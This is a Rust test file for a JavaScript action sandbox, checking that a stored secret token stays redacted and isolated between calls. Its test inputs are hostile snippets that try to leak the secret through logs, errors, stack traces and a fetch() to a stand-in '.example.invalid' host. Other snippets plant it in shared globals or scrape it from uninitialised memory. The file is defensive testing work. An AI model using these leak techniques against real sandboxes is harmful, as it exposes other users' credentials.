//! Secrets, and what one call leaves for the next.

use super::{attack_with, handler, lines};
use crate::support::scripts::{Scripts, source};

const SECRET: &str = "s3cr3t-value-of-the-test";

fn with_secret() -> Scripts {
    let mut scripts = Scripts::new();
    scripts.bench.secrets.insert("TOKEN".into(), SECRET.to_owned().into());
    scripts
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_is_redacted_wherever_the_record_could_show_it() {
    for body in [
        "console.log(event.secrets.TOKEN);",
        "console.log('Bearer ' + event.secrets.TOKEN, { deep: [event.secrets] });",
        "console.error(new Error(event.secrets.TOKEN));",
        "throw new Error('with ' + event.secrets.TOKEN);",
        "throw event.secrets.TOKEN;",
        "throw { token: event.secrets.TOKEN };",
        "const error = new Error('x'); error.stack = '    at ' + event.secrets.TOKEN + ' (a.js:1:1)'; throw error;",
        "const named = { [event.secrets.TOKEN]() { throw new Error('named'); } }; named[event.secrets.TOKEN]();",
        "(0, eval)('throw new Error(1) //# sourceURL=' + event.secrets.TOKEN);",
        "await fetch('https://' + event.secrets.TOKEN + '.example.invalid/').catch((error) => { throw error; });",
        "require(event.secrets.TOKEN);",
        "console.table([{ token: event.secrets.TOKEN }]);",
        "console.dir(event);",
    ] {
        let report = attack_with(&with_secret(), body).await;
        assert!(!format!("{report:?}").contains(SECRET), "{body}: {report:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_secret_is_in_an_image_or_in_any_file_of_compiled_code() {
    let scripts = with_secret();
    let code =
        "const seen = []; exports.onExecutePostLogin = async (event) => { seen.push(event.secrets.TOKEN); globalThis.kept = event; };";
    scripts.run(code).await.outcome.unwrap();
    let mut looked = 0;
    for file in std::fs::read_dir(scripts.bench.dir.path()).unwrap() {
        let Ok(bytes) = std::fs::read(file.unwrap().path()) else { continue };
        assert!(!bytes.windows(SECRET.len()).any(|window| window == SECRET.as_bytes()));
        looked += 1;
    }
    assert!(looked > 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_call_leaves_anywhere_is_there_in_the_next() {
    let scripts = with_secret();
    let code = handler(
        "const seen = [globalThis.kept, Object.prototype.kept, require('util').kept, require.kept, module.kept, exports.kept, api.kept,
           api.idToken.kept, console.kept, Symbol.for('kept').description && Math.kept, process.env.KEPT, (await caches())];
         async function caches() { return typeof globalThis.cache === 'undefined' ? undefined : 'cache'; }
         console.log(seen.filter((value) => value !== undefined).length);
         globalThis.kept = Object.prototype.kept = require('util').kept = require.kept = module.kept = exports.kept = event.secrets;
         api.kept = api.idToken.kept = console.kept = Math.kept = event.secrets; process.env.KEPT = 'x'; globalThis.cache = 1;
         setTimeout(() => { globalThis.late = event.secrets; }, 0);",
    );
    let program = scripts.load(source(&code)).await;
    for _ in 0..5 {
        let report = scripts.bench.sandbox.call(scripts.bench.call(&program)).await;
        assert_eq!(lines(&report), ["0"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn freed_memory_of_one_action_does_not_show_in_another() {
    let scripts = with_secret();
    let writer = handler("for (let n = 0; n < 2000; n += 1) globalThis['k' + n] = Buffer.from(event.secrets.TOKEN.repeat(20));");
    let reader = handler(&format!(
        "let found = 0; const needle = {:?};
         for (let n = 0; n < 200; n += 1) {{ const raw = Buffer.allocUnsafe(8192); if (raw.includes(needle)) found += 1; }}
         console.log(found);",
        &SECRET[..12]
    ));
    let (writer, reader) = (scripts.load(source(&writer)).await, scripts.load(source(&reader)).await);
    for _ in 0..5 {
        scripts.bench.sandbox.call(scripts.bench.call(&writer)).await.outcome.unwrap();
        let report = scripts.bench.sandbox.call(scripts.bench.call(&reader)).await;
        assert_eq!(lines(&report), ["0"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn chance_differs_between_calls_whichever_way_it_is_asked_for() {
    let scripts = Scripts::new();
    let code = handler(
        "const crypto = require('crypto');
         console.log([Math.random(), crypto.randomUUID(), crypto.randomBytes(8).toString('hex'), globalThis.crypto.randomUUID(),
           crypto.randomInt(1e12), globalThis.crypto.getRandomValues(new Uint8Array(8)).join('-')].join(' '));",
    );
    let program = scripts.load(source(&code)).await;
    let mut seen = std::collections::BTreeSet::new();
    for _ in 0..4 {
        let report = scripts.bench.sandbox.call(scripts.bench.call(&program)).await;
        seen.extend(lines(&report)[0].split(' ').map(str::to_owned).collect::<Vec<_>>());
    }
    assert_eq!(seen.len(), 4 * 6, "{seen:?}");
}
